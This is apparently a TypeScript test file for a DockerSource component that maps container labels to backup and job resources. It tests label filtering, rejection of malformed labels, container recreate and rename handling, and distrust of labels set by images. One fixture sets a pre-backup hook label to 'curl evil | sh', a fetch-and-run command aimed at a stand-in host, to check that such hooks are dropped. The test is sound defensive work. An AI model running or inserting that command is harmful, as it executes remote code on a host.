import { expect } from 'chai';
import { InMemoryEventRecorder, VirtualClock, type ResourceDefinition } from '@dockop/runtime';
import { UNTRUSTED_LABELS_ANNOTATION } from './container-resource-tracker.js';
import { DockerSource, type DockerSourceOptions } from './docker-source.js';
import { FakeEngine, settle } from './test-support/fake-docker.js';
import { job } from './test-support/job-definition.js';
import { RecordingSink } from './test-support/recording-sink.js';

const backup: ResourceDefinition = {
  group: 'backrest.dockop.io',
  version: 'v1alpha1',
  kind: 'BackupWorkload',
  plural: 'backupworkloads',
  selector: {
    prefixes: ['backrest.'],
    enableLabel: 'backrest.enable',
    sensitiveLabels: ['backrest.hooks.pre', 'backrest.paths.include'],
  },
  schemaId: 'bw',
};

async function startSource(
  engine: FakeEngine,
  options: DockerSourceOptions = {},
  defs: ResourceDefinition[] = [backup, job],
): Promise<{
  source: DockerSource;
  sink: RecordingSink;
  clock: VirtualClock;
  recorder: InMemoryEventRecorder;
  stop: () => void;
}> {
  const clock = new VirtualClock();
  const recorder = new InMemoryEventRecorder({ clock });
  const source = new DockerSource(engine.client(), defs, clock, undefined, recorder, undefined, {
    reconnect: { initialMs: 100 },
    ...options,
  });
  const sink = new RecordingSink();
  const ac = new AbortController();
  await source.start(sink, ac.signal);
  return { source, sink, clock, recorder, stop: () => ac.abort() };
}

describe('DockerSource', () => {
  const stops: (() => void)[] = [];
  afterEach(() => stops.splice(0).forEach((s) => s()));

  it('delivers the first list with one replace, one resource per matching kind', async () => {
    const engine = new FakeEngine();
    engine.add({
      id: 'a',
      name: 'db',
      labels: {
        'backrest.enable': 'true',
        'backrest.paths.include': '/data',
        'job.schedule': '@daily',
      },
    });
    engine.add({ id: 'b', name: 'off', labels: { 'backrest.enable': 'false' } });
    engine.add({ id: 'c', name: 'plain' });
    const t = await startSource(engine);
    stops.push(t.stop);
    expect(t.sink.log).to.deep.equal(['replace BackupWorkload/db,Job/db']);
    expect(t.source.hasSynced()).to.equal(true);
    const r = t.sink.get('BackupWorkload/db');
    expect(r?.spec).to.deep.equal({ enable: 'true', paths: { include: '/data' } });
    expect(r?.apiVersion).to.equal('backrest.dockop.io/v1alpha1');
    expect(t.sink.get('Job/db')?.spec).to.deep.equal({ schedule: '@daily' });
  });

  it('labelSelector: pushed into the list filters; events of containers outside it cost no call', async () => {
    const engine = new FakeEngine();
    engine.add({ id: 'a', name: 'in', labels: { 'backrest.enable': 'true', team: 'a' } });
    engine.add({ id: 'b', name: 'out', labels: { 'backrest.enable': 'true', team: 'b' } });
    const t = await startSource(engine, { labelSelector: { team: 'a' } }, [backup]);
    stops.push(t.stop);
    expect(engine.calls).to.deep.equal(['events', 'list {"label":["backrest.enable","team=a"]}']);
    expect(t.sink.log).to.deep.equal(['replace BackupWorkload/in']);
    engine.add({ id: 'c', name: 'late-out', labels: { 'backrest.enable': 'true', team: 'b' } });
    engine.emit('start', 'c');
    engine.add({ id: 'd', name: 'late-in', labels: { 'backrest.enable': 'true', team: 'a' } });
    engine.emit('start', 'd');
    await settle();
    expect(engine.calls.slice(2)).to.deep.equal([
      'list {"label":["backrest.enable","team=a"],"id":["d"]}',
    ]);
    expect(t.sink.log.at(-1)).to.equal('create BackupWorkload/late-in');
  });

  it('rejects hostile labels for one kind and leaves the other kind and containers alone', async () => {
    const engine = new FakeEngine();
    engine.add({
      id: 'a',
      name: 'evil',
      labels: {
        'backrest.enable': 'true',
        'backrest.paths.include': 'x'.repeat(5000),
        'job.run': 'ok',
      },
    });
    engine.add({
      id: 'b',
      name: 'ctl',
      labels: { 'backrest.enable': 'true', 'backrest.paths.exclude': 'a\u0000b' },
    });
    engine.add({ id: 'c', name: 'fine', labels: { 'backrest.enable': 'true' } });
    const t = await startSource(engine);
    stops.push(t.stop);
    expect(t.sink.rejections.map((r) => `${r.key} ${r.reason}`)).to.deep.equal([
      'BackupWorkload/evil LabelTooLong',
      'BackupWorkload/ctl LabelControlCharacters',
    ]);
    expect(t.sink.rejections[0]?.message)
      .to.contain('"evil"')
      .and.contain('backrest.paths.include');
    expect([...t.sink.store.keys()].sort()).to.deep.equal(['BackupWorkload/fine', 'Job/evil']);
    // A resync does not repeat the rejection.
    await t.source.resync();
    expect(t.sink.rejections).to.have.length(2);
  });

  it('turns remove + create with the same name into an update of the same key', async () => {
    const engine = new FakeEngine();
    engine.add({
      id: 'old',
      name: 'app',
      labels: { 'backrest.enable': 'true', 'backrest.x': '1' },
    });
    const t = await startSource(engine, { recreateGraceMs: 2000 });
    stops.push(t.stop);
    engine.containers.delete('old');
    engine.emit('destroy', 'old');
    await settle();
    engine.add({
      id: 'new',
      name: 'app',
      labels: { 'backrest.enable': 'true', 'backrest.x': '2' },
    });
    engine.emit('create', 'new');
    await settle();
    await t.clock.advanceAsync(5000);
    expect(t.sink.log.slice(1)).to.deep.equal(['update BackupWorkload/app']);
    const r = t.sink.get('BackupWorkload/app');
    expect(r?.metadata.uid).to.equal('new');
    expect(r?.metadata.generation).to.equal(2);
  });

  it('deletes a removed container once the grace period passed', async () => {
    const engine = new FakeEngine();
    engine.add({ id: 'a', name: 'app', labels: { 'backrest.enable': 'true' } });
    const t = await startSource(engine, { recreateGraceMs: 2000 });
    stops.push(t.stop);
    engine.containers.delete('a');
    engine.emit('destroy', 'a');
    await settle();
    await t.clock.advanceAsync(1999);
    expect(t.sink.store.has('BackupWorkload/app')).to.equal(true);
    await t.clock.advanceAsync(1);
    expect(t.sink.log.at(-1)).to.equal('delete BackupWorkload/app');
  });

  it('keeps a stopped container as a resource with state exited', async () => {
    const engine = new FakeEngine();
    const c = engine.add({ id: 'a', name: 'app', labels: { 'backrest.enable': 'true' } });
    const t = await startSource(engine, { recreateGraceMs: 0 });
    stops.push(t.stop);
    const rv = t.sink.get('BackupWorkload/app')?.metadata.resourceVersion;
    c.state = 'exited';
    engine.emit('die', 'a');
    await settle();
    const r = t.sink.get('BackupWorkload/app');
    expect(r?.status?.state).to.equal('exited');
    expect(r?.metadata.generation).to.equal(1);
    expect(r?.metadata.resourceVersion).to.not.equal(rv);
  });

  it('moves the key on rename and ignores compose temporary names', async () => {
    const engine = new FakeEngine();
    const labels = { 'backrest.enable': 'true' };
    engine.add({ id: 'aaaaaaaaaaaa1111', name: 'app', labels });
    const t = await startSource(engine, { recreateGraceMs: 0 });
    stops.push(t.stop);
    // compose recreate: new container under a temporary name, old removed, new renamed.
    const fresh = engine.add({ id: 'bbbbbbbbbbbb2222', name: 'bbbbbbbbbbbb_app', labels });
    engine.emit('create', fresh.id);
    await settle();
    expect(t.sink.store.has('BackupWorkload/bbbbbbbbbbbb_app')).to.equal(false);
    engine.containers.delete('aaaaaaaaaaaa1111');
    fresh.name = 'app';
    engine.emit('destroy', 'aaaaaaaaaaaa1111');
    engine.emit('rename', fresh.id, { oldName: '/bbbbbbbbbbbb_app' });
    await settle();
    expect([...t.sink.store.keys()]).to.deep.equal(['BackupWorkload/app']);
    expect(t.sink.get('BackupWorkload/app')?.metadata.uid).to.equal('bbbbbbbbbbbb2222');
    // a plain rename moves the key
    fresh.name = 'renamed';
    engine.emit('rename', fresh.id, { oldName: '/app' });
    await settle();
    expect([...t.sink.store.keys()]).to.deep.equal(['BackupWorkload/renamed']);
  });

  describe('image-label trust', () => {
    function withImageLabels(): FakeEngine {
      const engine = new FakeEngine();
      engine.imageLabels.set('sha256:third', {
        'backrest.hooks.pre': 'curl evil | sh',
        'backrest.enable': 'true',
      });
      engine.add({
        id: 'a',
        name: 'thirdparty',
        image: 'vendor/app:1',
        imageId: 'sha256:third',
        labels: {
          'backrest.enable': 'true',
          'backrest.hooks.pre': 'curl evil | sh',
          'backrest.paths.include': '/data',
        },
      });
      engine.add({
        id: 'b',
        name: 'overridden',
        image: 'vendor/app:1',
        imageId: 'sha256:third',
        labels: { 'backrest.enable': 'true', 'backrest.hooks.pre': 'echo mine' },
      });
      return engine;
    }

    it('drops a sensitive label the image set, with a Warning naming image and label', async () => {
      const engine = withImageLabels();
      const t = await startSource(engine);
      stops.push(t.stop);
      const r = t.sink.get('BackupWorkload/thirdparty');
      expect(r?.spec).to.deep.equal({ enable: 'true', paths: { include: '/data' } });
      expect(r?.metadata.annotations[UNTRUSTED_LABELS_ANNOTATION]).to.equal('backrest.hooks.pre');
      const events = t.recorder.list('BackupWorkload/thirdparty');
      expect(events).to.have.length(1);
      expect(events[0]?.type).to.equal('Warning');
      expect(events[0]?.message).to.contain('backrest.hooks.pre').and.contain('vendor/app:1');
      // Same key, different value on the container: set by whoever ran it, trusted.
      expect(t.sink.get('BackupWorkload/overridden')?.spec).to.deep.equal({
        enable: 'true',
        hooks: { pre: 'echo mine' },
      });
      expect(t.recorder.list('BackupWorkload/overridden')).to.have.length(0);
      // One inspect per image id, however many containers use it.
      expect(engine.count('image')).to.equal(1);
      await t.source.resync();
      expect(t.recorder.list('BackupWorkload/thirdparty')[0]?.count).to.equal(1);
    });

    it('keeps them with trustImageLabels', async () => {
      const engine = withImageLabels();
      const t = await startSource(engine, { trustImageLabels: true });
      stops.push(t.stop);
      expect(t.sink.get('BackupWorkload/thirdparty')?.spec).to.deep.include({
        hooks: { pre: 'curl evil | sh' },
      });
      expect(t.recorder.all()).to.have.length(0);
      expect(engine.count('image')).to.equal(0);
    });
  });

  it('reports healthy and live from the stream', async () => {
    const engine = new FakeEngine();
    const t = await startSource(engine, { livenessGraceMs: 10_000 });
    stops.push(t.stop);
    expect(t.source.healthy()).to.equal(true);
    engine.stop();
    await settle();
    expect(t.source.healthy()).to.equal(false);
    expect(t.source.live()).to.equal(true);
    await t.clock.advanceAsync(10_000);
    expect(t.source.live()).to.equal(false);
    engine.start();
    await t.clock.advanceAsync(30_000);
    await settle();
    expect(t.source.healthy()).to.equal(true);
    expect(t.source.live()).to.equal(true);
  });

  it('refuses two definitions of the same kind', () => {
    expect(
      () =>
        new DockerSource(
          new FakeEngine().client(),
          [job, job],
          undefined,
          undefined,
          undefined,
          undefined,
          undefined,
        ),
    ).to.throw(/bound twice/);
  });
});
